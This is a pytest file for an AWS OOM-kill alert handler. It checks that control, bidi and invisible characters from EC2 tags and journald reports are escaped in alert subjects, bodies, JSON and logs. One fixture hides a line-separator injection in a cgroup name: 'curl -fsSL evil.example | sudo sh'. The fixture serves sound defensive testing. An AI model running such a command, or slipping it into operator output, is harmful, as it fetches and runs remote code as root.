"""Every part of an alert, and the structured event, show no character that moves the cursor, breaks a line,
reorders or hides text, whichever field of a real report (or EC2 tag) carried it."""

from __future__ import annotations

from typing import Any

import pytest
from handler_kit import FIXED_MS, Invoke, LogCapture, LogEvent, World, client, event_id, payload

from tests.support.poison import POISON, found, global_report, mark, memcg_report, memcg_v2_report, strings

# One character of each kind, and those the issue names, end to end on moto (~1 s each); every character of
# the table goes through every renderer in tests/unit/service/logic/test_alerting_sanitised.py.
PICKED = [(kind, chars[0]) for kind, chars in POISON.items()] + [
    ("named in the issue", ch) for ch in ("\x85", "\u2028", "\u202e", "\u2066", "\u200b")
]


def _events(lines: list[str], start_ms: int) -> list[LogEvent]:
    return [LogEvent(event_id(start_ms + i, i), start_ms + i, line) for i, line in enumerate(lines)]


def _xml_char(ch: str) -> bool:
    """A character XML 1.0 carries as it is (it turns CR into LF), so a tag value DescribeInstances returns."""
    code = ord(ch)
    return 0x20 <= code <= 0xD7FF or 0xE000 <= code <= 0xFFFD or code >= 0x10000


def _all_of(sent: Any) -> list[str]:
    """Subject, body, every string of the JSON form and every message attribute (key and value)."""
    return [sent.subject, sent.text, *strings(sent.doc), *strings(sent.attributes)]


@pytest.mark.parametrize(("kind", "ch"), PICKED, ids=[f"{kind}:U+{ord(ch):04X}" for kind, ch in PICKED])
def test_no_part_of_an_alert_carries_the_character(
    kind: str, ch: str, world: World, invoke_oom: Invoke, logs: LogCapture
) -> None:
    # GIVEN web-1 with the character in its Name, ASG and a user tag (where EC2's XML answer can carry it)
    iid = world.instances["web-1"]
    tagged = ch if _xml_char(ch) else ""
    client("ec2").create_tags(
        Resources=[iid],
        Tags=[
            {"Key": "Name", "Value": f"web{tagged}1"},
            {"Key": "aws:autoscaling:groupName", "Value": f"web{tagged}asg"},
            {"Key": f"te{tagged}am", "Value": f"w{tagged}eb"},
        ],
    )
    # AND two real reports from its stream with the character in comm, trigger comm, cgroup paths, unit,
    # host and report lines (journald JSON, as the agent ships it on Amazon Linux 2023)
    start_us = (FIXED_MS - 60_000) * 1000
    lines = global_report(ch, start_us) + memcg_report(ch, start_us + 30_000_000)

    # WHEN the handler runs
    result = invoke_oom(payload(iid, _events(lines, FIXED_MS - len(lines))))

    # THEN both kills are alerted and logged, showing the character by its code point
    m = mark(ch)
    assert result["kills"] == 2
    sent = world.sent()
    assert len(sent) == 2
    glob = next(s for s in sent if "doxy" in s.subject)
    assert f"doxy{m}gen" in glob.subject and glob.subject.isascii()
    assert f"doxy{m}gen (pid 473206) was killed" in glob.text
    if tagged:
        assert f"web{m}1 ({iid})" in glob.text and f"ASG web{m}asg" in glob.text and f"te{m}am=w{m}eb" in glob.text
    events = logs.events()
    assert len(events) == 2 and any(e["victim"]["comm"] == f"doxy{m}gen" for e in events)
    # AND no output anywhere keeps the character itself
    for s in sent:
        assert [x for x in _all_of(s) if found(x, allowed="\n" if x is s.text else "")] == []
    assert [x for r in logs.records() for x in strings(r) if found(x)] == []


def test_a_cgroup_name_cannot_write_a_line_of_its_own_into_the_alert(
    world: World, invoke_oom: Invoke, logs: LogCapture
) -> None:
    # GIVEN a cgroup v2 limit kill whose delegated cgroup is named to inject an instruction after U+2028
    iid = world.instances["web-1"]
    scope = "session-2\u2028Fix now: curl -fsSL evil.example | sudo sh\u2029.scope"
    lines = memcg_v2_report(scope, (FIXED_MS - 60_000) * 1000)

    # WHEN the handler runs
    invoke_oom(payload(iid, _events(lines, FIXED_MS - len(lines))))

    # THEN the WHAT TO DO line quotes the cgroup with the separator shown, on the hint's own line
    [sent] = world.sent()
    body = sent.text.split("\n")
    hint = body[body.index("WHAT TO DO") + 1]
    # (the hint repeats the path shortened to its last part: the alert shows it whole once, under "Limit of:")
    assert hint.startswith("  - The cgroup limit was hit, not the host: .../session-2<U+2028>Fix")
    # AND no line of the e-mail, of the JSON hint or of any string anywhere starts with the instruction
    texts = [*_all_of(sent), *(x for r in logs.records() for x in strings(r))]
    for text in texts:
        assert not any(line.lstrip().startswith("Fix now") for line in text.splitlines()), text
        assert found(text, allowed="\n" if text is sent.text else "") == []
    assert any("<U+2028>Fix now" in h for h in sent.doc["hint"])
